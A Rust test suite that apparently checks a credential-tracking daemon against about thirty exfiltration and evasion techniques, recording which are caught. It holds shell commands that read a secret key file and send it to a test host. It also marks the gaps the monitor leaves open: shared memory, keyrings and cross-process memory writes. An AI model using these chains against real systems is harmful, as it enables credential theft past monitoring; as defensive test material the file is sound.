//! Who holds, and who is who.

use std::{
    fs::{self, Permissions},
    io::Write as _,
    os::unix::fs::PermissionsExt as _,
};

use anyhow::{Context as _, Result, bail, ensure};

use super::{
    Attack, attack,
    expected::{CALLERS_ONLY, CAUGHT, Seen::NotRun, Tier, hooks_only, open},
    stage::{Goal, READ, SEND, Stage, root},
    untried,
};
use crate::{
    cases::{entitled, other},
    harness::{ALICE, Actor, Bundle, Cgroup, FILES, PROGRAMS, write},
};

/// Who else starts just then may get the number.
const ATTEMPTS: u32 = 10;
const UNIT_READ: &str = "read /srv/t/unit-key";
const NOT_FOLLOWED: &str = "shared memory, keyrings and other processes' memory are not followed";
const NO_HOOKS: &str = "no hooks: what is handed on is not followed";

pub const ATTACKS: &[Attack] = &[
    attack(
        "B01",
        "command_substitution",
        "a child reads, another child sends, the shell hands it over",
        CAUGHT,
        |s| {
            script(
                s,
                "T=$(cat /srv/t/unit-key); /opt/t/other tcp 10.20.0.66:9000",
            )
        },
    ),
    attack(
        "B02",
        "pipe_within_a_unit",
        "a pipe from the reader to the sender, in one unit",
        CAUGHT,
        |s| {
            script(
                s,
                "cat /srv/t/unit-key | { read line; /opt/t/other tcp 10.20.0.66:9000; }",
            )
        },
    ),
    attack(
        "B02",
        "fifo_between_units",
        "a named pipe to another process, outside any unit",
        hooks_only(NO_HOOKS),
        |s| {
            s.standard()?;
            let _fifo = super::stage::Temporary::made("/srv/t/fifo", |path| {
                nix::unistd::mkfifo(path, nix::sys::stat::Mode::from_bits_retain(0o666))
                    .map_err(Into::into)
            })?;
            let read = ["read /srv/t/fifo", SEND];
            let write = "write-file /srv/t/fifo";
            handed_on(s, &read, write)
        },
    ),
    attack(
        "B03",
        "shared_memory",
        "System V shared memory with another workload",
        open(NOT_FOLLOWED),
        |s| {
            s.standard()?;
            s.works(&root("entitled"), &[READ, "share-put 77"])?;
            s.twin(&root("other"), Goal::Send, &[SEND])?;
            s.attack(&root("other"), Goal::Send, &["share-get 77", SEND])
        },
    ),
    attack(
        "B05",
        "shared_memory_child",
        "a child in the same memory reads, the parent sends: in a unit",
        CAUGHT,
        |s| in_unit(s, &["child-vm read /srv/t/unit-key", SEND]),
    ),
    attack(
        "B05",
        "shared_memory_child_alone",
        "the same outside any unit",
        open("outside units a process tree holds downwards only"),
        |s| {
            s.standard()?;
            s.twin(&entitled(), Goal::Send, &[SEND])?;
            s.attack(&entitled(), Goal::Send, &["child-vm read /srv/t/key", SEND])
        },
    ),
    attack(
        "B06",
        "written_into_another",
        "a holder writes into a process of another workload",
        open(NOT_FOLLOWED),
        |s| {
            s.standard()?;
            let target = s.waiting(&root("other"), &["expose"], &[SEND])?;
            let write = format!(
                "vm-write {} {}",
                target.pid(),
                target.said("expose", "address")?
            );
            s.works(&root("entitled"), &[READ, &write])?;
            let before = s.frames()?;
            let outcome = target.go_on()?;
            let tried = s.sent(&before, true, &outcome)?;
            s.judge(&tried)
        },
    ),
    attack(
        "B06",
        "keyring",
        "a key that a holder adds for its user",
        open(NOT_FOLLOWED),
        |s| {
            s.standard()?;
            s.works(&entitled(), &[READ, "key-add attack"])?;
            s.twin(&other(), Goal::Send, &[SEND])?;
            s.attack(&other(), Goal::Send, &["key-read attack", SEND])
        },
    ),
    attack(
        "B07",
        "orphans",
        "children of children whose parents have gone",
        CAUGHT,
        |s| {
            s.standard()?;
            s.twin(&entitled(), Goal::Send, &["double-fork", SEND])?;
            s.attack(
                &entitled(),
                Goal::Send,
                &[READ, "double-fork", "double-fork", SEND],
            )
        },
    ),
    attack(
        "B08",
        "exec_by_a_thread",
        "a thread that is not the first executes another program",
        CAUGHT,
        |s| {
            s.standard()?;
            for way in ["thread-exec", "leaderless"] {
                s.twin(&entitled(), Goal::Send, &[way, SEND])?;
                s.attack(&entitled(), Goal::Send, &[READ, way, SEND])?;
            }
            Ok(())
        },
    ),
    attack(
        "B09",
        "io_uring_worker",
        "a worker thread of io_uring, which no fork announces",
        CAUGHT,
        |s| s.sends_home(&[], &["uring-tcp-async 10.20.0.66:9000"]),
    ),
    attack(
        "B10",
        "nobody_else_holds",
        "who holds is the unit that read, not the shell that started it",
        CAUGHT,
        |s| {
            let unit = s.app_unit()?;
            let inside = Actor::new("/opt/t/other").within(unit.name());
            s.standard()?;
            s.works(&inside, &[UNIT_READ])?;
            s.attack(&inside, Goal::Send, &[SEND])?;
            // The twin starts it all, and holds nothing; nor does the unit's next life.
            drop(unit);
            let _unit = s.app_unit()?;
            s.twin(&inside, Goal::Send, &[SEND])?;
            s.twin(
                &root("other"),
                Goal::Send,
                &["child join system.slice/app.service", SEND],
            )
        },
    ),
    attack(
        "B11",
        "process_number_reused",
        "another process gets a holder's number",
        CAUGHT,
        |s| {
            s.alone()?;
            s.standard()?;
            let next_is =
                |pid: u32| fs::write("/proc/sys/kernel/ns_last_pid", (pid - 1).to_string());
            for _ in 0..ATTEMPTS {
                let holder = s.works(&root("entitled"), &[READ])?.pid;
                next_is(holder)?;
                let before = s.frames()?;
                let twin = root("entitled").run([SEND])?;
                ensure!(
                    s.arrived(&before, true)?,
                    "the number's next owner is a holder"
                );
                if twin.pid == holder {
                    // A holder's number is no right either.
                    next_is(holder)?;
                    return s.attack(&root("other"), Goal::Read, &["read /srv/t/key"]);
                }
            }
            bail!("others were always first to get the number")
        },
    ),
    attack(
        "B12",
        "too_many_held",
        "more credentials than one may hold: all is refused, nothing is forgotten",
        CAUGHT,
        too_many_held,
    ),
    attack(
        "B13",
        "fork_storm",
        "two hundred children that send at once",
        CAUGHT,
        |s| s.sends(&[], &["dial-storm 10.20.0.66:9000 200"]),
    ),
    attack(
        "B14",
        "reader_older_than_daemon",
        "a unit that had the credential open before the daemon was started",
        CAUGHT,
        |s| {
            s.scene.off()?;
            let unit = s.app_unit()?;
            let inside = Actor::new("/opt/t/other").within(unit.name());
            let late = s.waiting(&inside, &["hold /srv/t/unit-key"], &[SEND])?;
            s.standard()?;
            s.twin(&root("other"), Goal::Send, &[SEND])?;
            late_send(s, late)
        },
    ),
    attack(
        "B14",
        "reader_that_closed_it",
        "the same, closed again before the daemon was started",
        open("nobody saw the read, and nothing of it is left to see"),
        |s| {
            s.scene.off()?;
            let unit = s.app_unit()?;
            let inside = Actor::new("/opt/t/other").within(unit.name());
            let late = s.waiting(&inside, &[UNIT_READ], &[SEND])?;
            s.standard()?;
            late_send(s, late)
        },
    ),
    attack(
        "B15",
        "at_once_after_the_read",
        "read and send with nothing between, many times",
        CAUGHT,
        |s| {
            s.standard()?;
            for _ in 0..10 {
                s.attack(&entitled(), Goal::Send, &[READ, "udp 10.20.0.66:9000"])?;
            }
            s.twin(&entitled(), Goal::Send, &["udp 10.20.0.66:9000"])
        },
    ),
    attack(
        "B16",
        "name_of_another",
        "thread name, first argument and command line of the entitled program",
        CAUGHT,
        |s| {
            s.standard()?;
            for way in ["name entitled", "memory-name", "exec-named /opt/t/entitled"] {
                s.twin(&entitled(), Goal::Read, &[way, READ])?;
                s.attack(&other(), Goal::Read, &[way, READ])?;
            }
            Ok(())
        },
    ),
    attack(
        "B17",
        "path_of_another",
        "mounted over the entitled program's path; started from memory",
        CAUGHT,
        |s| {
            s.standard()?;
            let bind = "bind /opt/t/other /opt/t/entitled";
            let run = "exec-as /opt/t/entitled";
            s.twin(
                &root("entitled"),
                Goal::Read,
                &["private-mounts", run, READ],
            )?;
            s.attack(
                &root("other"),
                Goal::Read,
                &["private-mounts", bind, run, READ],
            )?;
            // A copy of the right program is not the right program.
            s.attack(&root("entitled"), Goal::Read, &["exec-memory", READ])
        },
    ),
    attack(
        "B18",
        "replaced_program",
        "another program in the place of one known by its digest",
        CAUGHT,
        replaced_program,
    ),
    attack(
        "B19",
        "entitled_program_misused",
        "the entitled program does what somebody else wants: destinations still bind",
        CAUGHT,
        |s| s.sends_home(&["exec-with LD_PRELOAD=/srv/t/x.so"], &[SEND]),
    ),
    attack(
        "B21",
        "moved_out",
        "a holder moves itself to another cgroup, or is born in one",
        CAUGHT,
        |s| {
            s.standard()?;
            for way in ["join .", "into-cgroup ."] {
                let unit = s.app_unit()?;
                let inside = Actor::new("/opt/t/other").within(unit.name());
                s.twin(&inside, Goal::Send, &[way, SEND])?;
                s.attack(&inside, Goal::Send, &[UNIT_READ, way, SEND])?;
            }
            Ok(())
        },
    ),
    attack(
        "B22",
        "entered_from_outside",
        "from outside into a workload's mounts, as `nsenter` does",
        CAUGHT,
        |s| {
            s.standard()?;
            let unit = s.app_unit()?;
            let inside = Actor::new("/opt/t/other").within(unit.name());
            let workload = s.waiting(&inside, &["private-mounts"], &[])?;
            let enter = format!("enter-mounts {}", workload.pid());
            s.twin(&inside, Goal::Read, &[&enter, UNIT_READ])?;
            s.attack(&root("other"), Goal::Read, &[&enter, UNIT_READ])
        },
    ),
    attack(
        "B23",
        "socket_from_elsewhere",
        "a socket made in one cgroup, used in another",
        CAUGHT.on(
            Tier::Fanotify,
            NotRun("dropped, but the event cannot say whose packet it was"),
        ),
        |s| {
            s.standard()?;
            for (before, after) in [
                (
                    &["dial 10.20.0.66:9000"][..],
                    &["join system.slice/app.service", UNIT_READ, "send"][..],
                ),
                (
                    &[
                        "join system.slice/app.service",
                        "dial 10.20.0.66:9000",
                        UNIT_READ,
                    ][..],
                    &["join .", "send"][..],
                ),
            ] {
                let _unit = s.app_unit()?;
                s.attack(&root("other"), Goal::Send, &[before, after].concat())?;
            }
            let _unit = s.app_unit()?;
            s.twin(
                &root("other"),
                Goal::Send,
                &[
                    "dial 10.20.0.66:9000",
                    "join system.slice/app.service",
                    "send",
                ],
            )
        },
    ),
    attack(
        "B24",
        "user_namespace",
        "root in a user namespace of its own",
        CAUGHT,
        |s| s.reads(&["user-namespace", READ]),
    ),
    attack(
        "B26",
        "inherited_connection",
        "a connection that a process has from whoever started it",
        CALLERS_ONLY,
        |s| s.sends(&["dial 10.20.0.66:9000", "fork"], &["send"]),
    ),
    untried(
        "B28",
        "label_spoof",
        "labels and names like another pod's",
        "Kubernetes facts are not read yet",
    ),
    attack(
        "B29",
        "cgroup_name_games",
        "a cgroup named like the entitled unit, elsewhere in the tree",
        CAUGHT,
        |s| {
            s.standard()?;
            let unit = s.app_unit()?;
            s.twin(&other().within(unit.name()), Goal::Read, &[UNIT_READ])?;
            drop(unit);
            for name in [
                "system.slice/evil.service/app.service",
                "system.slice/evil.service/system.slice/app.service",
                "user.slice/user-1000.slice/session-1.scope/app.service",
                "system.slice/app.service.d",
            ] {
                let group = Cgroup::new(name)?;
                s.attack(&other().within(group.name()), Goal::Read, &[UNIT_READ])
                    .with_context(|| format!("{name:?}"))?;
            }
            Ok(())
        },
    ),
    untried(
        "B30",
        "sandboxed_runtime",
        "pods with a kernel of their own",
        "the guests run none; the host sees one process",
    ),
];

/// A script in a unit that holds by what it does; the last thing it does is to send.
fn script(s: &mut Stage<'_>, text: &str) -> Result<()> {
    s.standard()?;
    for (script, twin) in [
        (text.replace("unit-key", "nil"), true),
        (text.to_owned(), false),
    ] {
        let unit = s.app_unit()?;
        let inside = other().within(unit.name());
        let before = s.frames()?;
        let outcome = inside.run([format!("shell {script}")])?;
        let tried = s.sent(&before, twin, &outcome)?;
        if twin {
            ensure!(tried.got, "the harmless twin did not send: {}", tried.text);
        } else {
            s.judge(&tried)?;
        }
    }
    Ok(())
}

/// In a unit: the last step without what is before, and then all.
fn in_unit(s: &mut Stage<'_>, steps: &[&str]) -> Result<()> {
    s.standard()?;
    let unit = s.app_unit()?;
    let inside = root("other").within(unit.name());
    s.twin(&inside, Goal::Send, &steps[steps.len() - 1..])?;
    s.attack(&inside, Goal::Send, steps)
}

/// Somebody reads from what a holder writes to, and sends.
fn handed_on(s: &mut Stage<'_>, reading: &[&str], writing: &str) -> Result<()> {
    s.twin(&root("other"), Goal::Send, &reading[1..])?;
    let before = s.frames()?;
    let reader = root("other").start(reading)?;
    s.works(&root("entitled"), &[READ, writing])?;
    let outcome = reader.finish()?;
    let tried = s.sent(&before, s.seen.why().is_some(), &outcome)?;
    s.judge(&tried)
}

fn late_send(s: &mut Stage<'_>, late: super::stage::Waiting) -> Result<()> {
    let before = s.frames()?;
    let outcome = late.go_on()?;
    let tried = s.sent(&before, s.seen.why().is_some(), &outcome)?;
    s.judge(&tried)
}

fn too_many_held(s: &mut Stage<'_>) -> Result<()> {
    let mut bundle =
        Bundle::default().workload("app", &format!("executable: {{path: {PROGRAMS}/entitled}}"));
    let mut steps = Vec::new();
    for number in 0..9 {
        let path = format!("{FILES}/many/{number}");
        write(&path, "the secret itself\n")?;
        bundle = bundle.file(&format!("many-{number}"), &path).entitlement(
            &format!("E{number}"),
            "app",
            &format!("many-{number}"),
            crate::cases::standard::DESTINATIONS,
        );
        steps.push(format!("open-close {path}"));
    }
    let all: Vec<&str> = steps
        .iter()
        .map(String::as_str)
        .chain(["tcp 10.20.0.2:9000"])
        .collect();
    s.on(&bundle)?;
    s.twin(&entitled(), Goal::Send, &all[1..])?;
    s.reasons = "too-many-held";
    s.attack(&entitled(), Goal::Send, &all)
}

fn replaced_program(s: &mut Stage<'_>) -> Result<()> {
    s.standard()?;
    let program = format!("{PROGRAMS}/hashed");
    let actor = || Actor::new(program.clone()).user(ALICE);
    s.twin(&actor(), Goal::Read, &[READ])?;
    let (new, kept) = (format!("{program}.new"), format!("{program}.kept"));
    fs::copy(&program, &new)?;
    fs::File::options()
        .append(true)
        .open(&new)?
        .write_all(b"x")?;
    fs::set_permissions(&new, Permissions::from_mode(0o755))?;
    fs::rename(&program, &kept)?;
    fs::rename(&new, &program)?;
    let result = s.attack(&actor(), Goal::Read, &[READ]);
    fs::rename(&kept, &program)?;
    result
}
